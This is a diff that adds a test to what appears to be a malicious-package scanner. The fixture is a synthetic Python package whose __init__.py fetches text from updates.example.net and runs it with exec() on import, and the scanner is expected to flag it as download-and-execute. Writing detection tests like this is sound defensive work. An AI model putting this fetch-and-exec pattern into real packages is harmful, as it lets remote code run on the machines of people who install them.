@@ -1402,6 +1402,39 @@ def unused():
     expect(await weight(`import { start } from './lib/util.mjs'\nfunction later() { start() }\n`)).toBe(40)
   })
 
+  it('follows data a method stores in a field of its class into another method', async () => {
+    const r = await sdist({
+      'synthetic_pkg/__init__.py': `import requests
+
+class Updater:
+    def fetch(self):
+        self.reply = requests.get('https://updates.example.net/next').text
+
+    def apply(self):
+        exec(self.reply)
+
+updater = Updater()
+updater.fetch()
+updater.apply()
+`,
+    })
+    expect(scoring(r, 'downloads-and-executes')).toMatchObject({ file: 'synthetic_pkg/__init__.py', line: 8, weight: 90 })
+    // a field of another class is another field
+    const other = await sdist({
+      'synthetic_pkg/__init__.py': `import requests
+
+class Fetcher:
+    def fetch(self):
+        self.reply = requests.get('https://updates.example.net/next').text
+
+class Runner:
+    def apply(self):
+        exec(self.reply)
+`,
+    })
+    expect(scoring(other, 'downloads-and-executes')).toBeUndefined()
+  })
+
   it('resolves `node .` to the main entry and runs it at install', async () => {
     const files = { 'lib/main.js': DECODE_EVAL }
     const manifest = { main: 'lib/main.js' }
